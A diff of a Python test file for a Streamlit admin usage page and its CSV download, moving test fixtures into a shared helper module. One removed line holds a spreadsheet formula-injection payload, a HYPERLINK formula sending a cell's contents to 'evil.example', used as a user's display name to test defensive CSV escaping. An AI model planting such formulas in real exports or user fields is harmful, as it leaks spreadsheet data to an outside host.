@@ -1,6 +1,6 @@
 """AppTest of the admin usage section (webapp.admin.ui.usage.usage_section), on answers saved
-the way the chat saves them (webapp.chat.history.History with the stats of
-webapp.llm.chat.GenerationStats), down to the CSV the download button serves."""
+the way the chat saves them (tests.support.usage_answers), down to the CSV the download
+button serves."""
 
 from __future__ import annotations
 
@@ -14,25 +14,20 @@ from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 from streamlit.testing.v1 import app_test as app_test_module
 
-from webapp.access.identity import resolve_owner
+from tests.support.usage_answers import (
+    ALICE,
+    BOB,
+    EVIL,
+    GUEST_OWNER,
+    LLAMA,
+    QWEN,
+    Ago,
+    save_answer,
+    seed_two_users_two_models,
+)
 from webapp.admin.ui.usage import NO_PRICE, UNAVAILABLE
 from webapp.admin.usage import GUEST, short_key
-from webapp.chat.history import History
-from webapp.chat.limits import UsageLimits
-from webapp.llm.chat import GenerationStats
 from webapp.store import ConversationStore
-from webapp.store.records import utcnow
-
-LLAMA = "meta-llama/Llama-2-7b-chat-hf"
-QWEN = "Qwen/Qwen2.5-7B-Instruct"
-EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"**Bob**")'
-IDP = "https://idp.example"
-ALICE = resolve_owner(
-    {"iss": IDP, "sub": "alice", "email": "Alice@Example.com", "email_verified": True,
-     "name": "Alice"}, None
-)  # fmt: skip
-BOB = resolve_owner({"iss": IDP, "sub": "bob", "name": EVIL}, None)  # no verified e-mail
-GUEST_OWNER = resolve_owner(None, "Zx9" * 8, client_address="203.0.113.7")
 
 
 def section(database_url: str, price: float | None, gpus: int | None) -> None:
@@ -44,28 +39,6 @@ def section(database_url: str, price: float | None, gpus: int | None) -> None:
     usage_section(ConversationStore(database_url), settings, gpus=gpus)
 
 
-class Clock:
-    def __init__(self) -> None:
-        self.ago = timedelta(hours=1)
-
-    def __call__(self):
-        return utcnow() - self.ago
-
-
-def _chat(store, owner, model, tokens_in, tokens_out, ttft_s):
-    """One question and its answer, saved as the chat page saves them."""
-    limits = UsageLimits(store, messages_per_minute=100, max_prompt_chars=1000,
-                         max_conversations=10)  # fmt: skip
-    history = History(store, limits, owner)
-    conv = history.start()
-    history.add(conv, "user", "a question")
-    message_id = history.begin_answer(conv, "an")
-    stats = GenerationStats(model=model, prompt_tokens=tokens_in, completion_tokens=tokens_out,
-                            ttft_s=ttft_s, duration_s=ttft_s + 1)  # fmt: skip
-    history.finish_answer(message_id, content="an answer", status="complete", meta=stats.as_dict())
-    assert history.problem is None
-
-
 @pytest.fixture
 def database_url(tmp_path):
     return f"sqlite:///{tmp_path / 'app.db'}"
@@ -73,18 +46,7 @@ def database_url(tmp_path):
 
 @pytest.fixture
 def seeded(database_url):
-    """Last day: Alice 2x Llama + 1x Qwen, Bob 1x Llama, a guest 1x Qwen (1000 tokens);
-    three days ago: Bob 1x Qwen (1000 tokens more)."""
-    clock = Clock()
-    store = ConversationStore(database_url, clock=clock)
-    _chat(store, ALICE, LLAMA, 100, 200, 0.2)
-    _chat(store, ALICE, LLAMA, 50, 50, 0.4)
-    _chat(store, ALICE, QWEN, 40, 60, 1.0)
-    _chat(store, BOB, LLAMA, 200, 200, 0.3)
-    _chat(store, GUEST_OWNER, QWEN, 60, 40, 2.0)
-    clock.ago = timedelta(days=3)
-    _chat(store, BOB, QWEN, 500, 500, 3.0)
-    store.dispose()
+    seed_two_users_two_models(database_url)
     return database_url
 
 
@@ -192,8 +154,8 @@ def test_without_a_price_the_tables_show_no_cost_and_say_how_to_get_one(seeded):
 
 
 def test_an_empty_period_says_so(database_url):
-    store = ConversationStore(database_url, clock=lambda: utcnow() - timedelta(days=3))
-    _chat(store, ALICE, LLAMA, 1, 1, 0.1)  # outside the last day
+    store = ConversationStore(database_url, clock=Ago(timedelta(days=3)))
+    save_answer(store, ALICE, LLAMA, 1, 1, 0.1)  # outside the last day
     store.dispose()
 
     at = run(database_url)
